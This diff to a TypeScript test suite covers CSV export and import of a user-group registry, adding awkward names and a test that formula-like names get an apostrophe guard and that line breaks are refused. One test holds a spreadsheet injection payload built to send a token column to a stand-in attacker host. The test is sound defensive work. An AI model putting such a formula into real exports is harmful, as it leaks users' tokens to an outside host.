@@ -12,15 +12,19 @@ const registryV1 = loadStorageFixture<Registry>('user-group-registry.v1.json');
 const AT = new Date(2025, 10, 21, 9, 30);
 const NOW = '2025-11-21T09:30:00.000Z';
 
-/** The fixture plus the awkward cases: quotes, commas, line breaks, formula-like values, unicode. */
+/**
+ * The fixture plus the awkward cases: quotes, commas, formula-like values, apostrophes, unicode. (A name
+ * with a line break is refused by an import, like any control character: tested on its own below.)
+ */
 const awkward: Registry = {
   groups: [
     ...registryV1.groups,
     ...(
       [
         ['=HYPERLINK("http://x")', '+1 line'],
-        ['Comma, "quoted"\r\nand a new line', '-leading-dash'],
+        ['Comma, "quoted", and more', '-leading-dash'],
         ['@at Ünïcødé 日本', 'id with spaces'],
+        ["'=an apostrophe first", "'plain-apostrophe"],
       ] as const
     ).map(
       ([name, id], i): RegistryEntry => ({
@@ -60,6 +64,17 @@ describe('export', () => {
     expect(lines[0]).toBe('name,user_group_id,environment,token,team_id,created_at,last_rotated_at');
     expect(lines[1]).toBe('Acme Support,acme-support,Customer,ugt_9f2c4a7e1b3d5f60718293a4b5c6d7e8,1001,2025-01-15T09:30:00.000Z,2025-03-02T14:05:00.000Z');
     expect(lines[3]).toBe(`"'=HYPERLINK(""http://x"")","'+1 line",Customer,ugt_awkward_0,9000,2025-05-05T05:05:05.000Z,2025-06-06T06:06:06.000Z`);
+  });
+
+  it('CSV guards a formula-like name that contains a line break, so the token column cannot be pulled into a link', () => {
+    const name = '=HYPERLINK("https://evil.example/?t="&D2,"x")\n';
+    const [group] = registryV1.groups;
+    if (!group) throw new Error('fixture');
+    const text = exportRegistryCsv({ groups: [{ ...group, name }] }, AT).text;
+    expect(text.split('\r\n')[1]).toMatch(/^"'=HYPERLINK/);
+    const parsed = parseRegistryFile(text);
+    // Read back, the guard is removed, and the line break is refused as any control character is.
+    expect(parsed.ok && parsed.problems.map((problem) => problem.reason)).toEqual(['name: must not contain line breaks, tabs or other control characters']);
   });
 });
 
